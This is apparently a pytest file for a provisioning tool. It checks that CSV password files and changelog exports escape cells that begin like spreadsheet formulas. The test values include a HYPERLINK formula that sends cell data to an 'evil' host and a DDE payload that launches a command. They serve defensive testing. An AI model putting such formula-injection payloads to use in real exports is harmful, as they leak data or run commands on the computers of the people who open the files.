"""CSV formula injection: password files and `bas changelog --format csv` neutralise formula cells."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from connectors import passwords
from provisioner.core.csv_cells import FORMULA_STARTS, neutralise
from provisioner.service import changelog


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+47 123", "'+47 123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Ola Nordmann", "Ola Nordmann"),
        ("a=b", "a=b"),
        ("", ""),
        (7, 7),
        (None, None),
    ],
)
def test_neutralise(value: object, shown: object) -> None:
    assert neutralise(value) == shown


def test_generated_passwords_never_start_like_a_formula() -> None:
    # 5 % of unconstrained passwords would (3 of the 57 characters): 3,000 find one for sure.
    pws = [passwords.generate(16) for _ in range(3000)]
    assert not [p for p in pws if p.startswith(FORMULA_STARTS)]
    assert all(passwords.meets_complexity(p) for p in pws)


def test_password_file_neutralises_cells(tmp_path: Path) -> None:
    files = passwords.PasswordFiles(tmp_path / "pw", "run1")
    path = files.add("Nordby skole", "olanor", '=HYPERLINK("http://evil/?"&A1,"klikk")', "Abc-def-ghi-2345")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig")), delimiter=";"))
    assert rows[1] == ["olanor", '\'=HYPERLINK("http://evil/?"&A1,"klikk")', "Abc-def-ghi-2345"]


def test_changelog_csv_neutralises_cells() -> None:
    row = {
        "id": 1,
        "run_id": "r1",
        "at": "2025-10-01T00:00:00+00:00",
        "target": "itslearning",
        "op": "create",
        "kind": "person",
        "key": "@P1",
        "username": "-ola",
        "result": "rejected",
        "reason": "=1+2",
        "error": "+cmd|' /C calc'!A0",
        "before": None,
        "after": '{"fn": "=evil()"}',
    }
    out = list(csv.DictReader(io.StringIO(changelog.render([row], "csv"))))[0]
    assert (out["key"], out["username"], out["reason"], out["error"]) == (
        "'@P1",
        "'-ola",
        "'=1+2",
        "'+cmd|' /C calc'!A0",
    )
    assert out["after"] == '{"fn": "=evil()"}' and out["id"] == "1"
